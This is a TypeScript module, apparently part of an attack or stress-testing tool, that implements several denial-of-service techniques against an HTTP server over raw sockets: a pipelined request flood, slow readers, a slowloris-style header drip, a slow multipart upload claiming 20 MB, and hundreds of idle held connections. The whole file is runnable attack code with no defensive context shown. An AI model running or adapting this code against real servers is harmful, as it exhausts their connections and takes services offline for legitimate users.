import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { OPENED, type Target } from './attack.ts';

function open({ origin, address, note, signal }: Target): Socket {
  const { hostname, port } = new URL(origin);
  const socket = connect({ host: hostname, port: Number(port), localAddress: address });
  socket.on('error', () => undefined);
  socket.once('connect', () => note(OPENED));
  socket.once('close', () => note(0));
  signal.addEventListener('abort', () => socket.destroy(), { once: true });
  return socket;
}

const get = (target: Target, path: string): string => `GET ${path} HTTP/1.1\r\nHost: ${new URL(target.origin).host}\r\n\r\n`;

async function keepOpen(target: Target, count: number, use: (socket: Socket) => void): Promise<void> {
  const sockets = new Set<Socket>();
  while (!target.signal.aborted) {
    while (sockets.size < count) {
      const socket = open(target);
      sockets.add(socket);
      socket.once('close', () => sockets.delete(socket));
      use(socket);
    }
    await delay(200);
  }
}

const PIPELINED = 120_000;
const AT_ONCE = 2000;

export const pipelining = (target: Target): Promise<void> =>
  keepOpen(target, 4, (socket) => {
    const requests = get(target, '/').repeat(AT_ONCE);
    let sent = 0;
    const send = () => {
      while (sent < PIPELINED && !socket.destroyed) {
        sent += AT_ONCE;
        if (!socket.write(requests)) return void socket.once('drain', send);
      }
    };
    socket.pause();
    send();
  });

export const slowReaders = (target: Target): Promise<void> => {
  const paths = ['/', '/products', '/api/catalog/products', '/openapi.json', '/api/openapi.json'];
  let n = 0;
  return keepOpen(target, 200, (socket) => {
    socket.pause();
    socket.write(get(target, paths[n++ % paths.length] as string).repeat(20));
  });
};

export const slowWriters = (target: Target): Promise<void> =>
  keepOpen(target, 200, (socket) => {
    socket.resume();
    socket.write(`GET / HTTP/1.1\r\nHost: ${new URL(target.origin).host}\r\n`);
    const timer = setInterval(() => socket.write('X-A: b\r\n'), 1000);
    socket.once('close', () => clearInterval(timer));
  });

/** Milliseconds until the attack `uploads` has used up its rate limit. */
const LATER_MS = 10_000;

export async function slowUploads(target: Target): Promise<void> {
  await delay(LATER_MS);
  await keepOpen(target, 100, (socket) => {
    socket.resume();
    const head = '--x\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n';
    socket.write(
      `POST /api/uploads HTTP/1.1\r\nHost: ${new URL(target.origin).host}\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 20000000\r\n\r\n${head}`,
    );
    const timer = setInterval(() => socket.write('0123456789'), 500);
    socket.once('close', () => clearInterval(timer));
  });
}

export const silentConnections = (target: Target): Promise<void> => keepOpen(target, 500, (socket) => void socket.resume());
